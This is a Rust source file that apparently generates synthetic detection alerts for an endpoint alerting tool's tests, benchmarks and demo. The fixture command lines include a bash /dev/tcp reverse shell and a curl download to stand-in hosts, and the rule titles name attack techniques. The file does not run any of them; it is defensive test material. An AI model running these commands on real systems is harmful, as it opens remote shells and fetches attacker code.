//! Typical alerts, for benchmarks, tests and the demo producer.
//!
//! [`process_alert`] builds the kind of alert picketd sends most: a process
//! start matched by a Sigma rule, with realistic command lines, images and
//! ATT&CK tags, varied by its index.

use picket_proto::{Alert, AlertId, BoundedStr, Event, Level, ProcessEvent, TechniqueId};

use crate::spool::{encode_alert_payload, NewAlert, SpoolError};

const RULES: [(&str, &str, u16, u16); 4] = [
    (
        "b8a7d0e2-6c1b-4c5e-9a51-3f0cbb1e7a10",
        "Suspicious download with curl piped to shell",
        1105,
        0,
    ),
    (
        "1f0b7e1c-2f3d-4b53-8e69-9d1f7c2a5b44",
        "Reverse shell via bash /dev/tcp",
        1059,
        4,
    ),
    (
        "6d2c9f3a-7b7e-4f0e-a5c6-2e8b1d0c9f31",
        "Crontab modified by non-root user",
        1053,
        3,
    ),
    (
        "9e4f1a2b-3c5d-4e6f-8a9b-0c1d2e3f4a5b",
        "Base64-decoded payload executed",
        1140,
        0,
    ),
];

const IMAGES: [(&str, &str); 4] = [
    ("/usr/bin/curl", "/bin/sh"),
    ("/bin/bash", "/usr/sbin/sshd"),
    ("/usr/bin/crontab", "/bin/bash"),
    ("/usr/bin/base64", "/bin/sh"),
];

/// A typical process alert's owned parts; [`Sample::alert`] borrows them.
#[derive(Debug, Clone)]
pub struct Sample {
    /// Index in the stream.
    pub index: u64,
    /// The alert id.
    pub id: AlertId,
    /// Level.
    pub level: Level,
    /// Event time.
    pub timestamp_ms: u64,
    rule: usize,
    command_line: String,
    parent_command_line: String,
    cwd: String,
}

/// The `index`-th sample alert with id `id`.
#[must_use]
pub fn process_alert(index: u64, id: AlertId) -> Sample {
    let rule = (index % 4) as usize;
    let level = match index % 10 {
        0..=4 => Level::Medium,
        5..=7 => Level::High,
        8 => Level::Low,
        _ => Level::Critical,
    };
    let host = ["updates.example.net", "10.0.3.17", "cdn.example.org"][(index % 3) as usize];
    let command_line = match rule {
        0 => format!(
            "curl -fsSL http://{host}/s{}.sh -o /tmp/.x{}",
            index % 97,
            index % 13
        ),
        1 => format!("bash -i >& /dev/tcp/{host}/{} 0>&1", 4000 + index % 500),
        2 => format!("crontab -u www-data /tmp/cron.{}", index % 31),
        _ => format!("base64 -d /tmp/.cache/p{}.b64", index % 53),
    };
    Sample {
        index,
        id,
        level,
        timestamp_ms: 1_764_000_000_000 + index * 37,
        rule,
        command_line,
        parent_command_line: format!("/bin/sh -c /opt/app/run.sh --job {}", index % 7),
        cwd: format!("/home/user{}", index % 5),
    }
}

impl Sample {
    /// The alert (its `seq` is a placeholder; the spool assigns the real one).
    #[must_use]
    pub fn alert(&self) -> Alert<'_> {
        let (rule_id, title, t, sub) = RULES[self.rule];
        let (image, parent) = IMAGES[self.rule];
        let mut techniques = picket_proto::heapless::Vec::new();
        if let Ok(tid) = TechniqueId::new(t, sub) {
            let _ = techniques.push(tid);
        }
        Alert {
            id: self.id,
            seq: 0,
            timestamp_ms: self.timestamp_ms,
            level: self.level,
            rule_id: BoundedStr::truncated(rule_id),
            rule_title: BoundedStr::truncated(title),
            techniques,
            event: Event::Process(ProcessEvent {
                pid: 20_000 + (self.index % 30_000) as u32,
                ppid: 1_000 + (self.index % 300) as u32,
                uid: 33,
                gid: 33,
                image: BoundedStr::truncated(image),
                command_line: BoundedStr::truncated(&self.command_line),
                parent_image: Some(BoundedStr::truncated(parent)),
                parent_command_line: Some(BoundedStr::truncated(&self.parent_command_line)),
                cwd: Some(BoundedStr::truncated(&self.cwd)),
                user: Some(BoundedStr::truncated("www-data")),
                extra: picket_proto::heapless::Vec::new(),
            }),
        }
    }

    /// The spool payload of this alert.
    ///
    /// # Errors
    /// As [`encode_alert_payload`].
    pub fn payload(&self) -> Result<Vec<u8>, SpoolError> {
        encode_alert_payload(&self.alert())
    }

    /// A [`NewAlert`] over `payload` (from [`Sample::payload`]).
    #[must_use]
    pub fn new_alert<'a>(&self, payload: &'a [u8]) -> NewAlert<'a> {
        NewAlert {
            id: self.id,
            level: self.level,
            timestamp_ms: self.timestamp_ms,
            payload,
        }
    }
}

/// An alert id derived from a stream index: unique per index, and the same
/// for the same index (for tests that regenerate a stream after a crash).
#[must_use]
pub fn id_for(stream: u64, index: u64) -> AlertId {
    let mut id = [0u8; 16];
    id[..8].copy_from_slice(&stream.to_be_bytes());
    id[8..].copy_from_slice(&index.to_be_bytes());
    AlertId(id)
}

/// A random alert id (UUIDv4 layout).
#[must_use]
pub fn random_id() -> AlertId {
    let mut id = [0u8; 16];
    if getrandom::fill(&mut id).is_err() {
        // No randomness: fall back to time and a counter, still unique here.
        use std::sync::atomic::{AtomicU64, Ordering};
        static COUNTER: AtomicU64 = AtomicU64::new(0);
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(0, |d| d.as_nanos() as u64);
        id[..8].copy_from_slice(&now.to_be_bytes());
        id[8..].copy_from_slice(&COUNTER.fetch_add(1, Ordering::Relaxed).to_be_bytes());
    }
    id[6] = (id[6] & 0x0f) | 0x40;
    id[8] = (id[8] & 0x3f) | 0x80;
    AlertId(id)
}
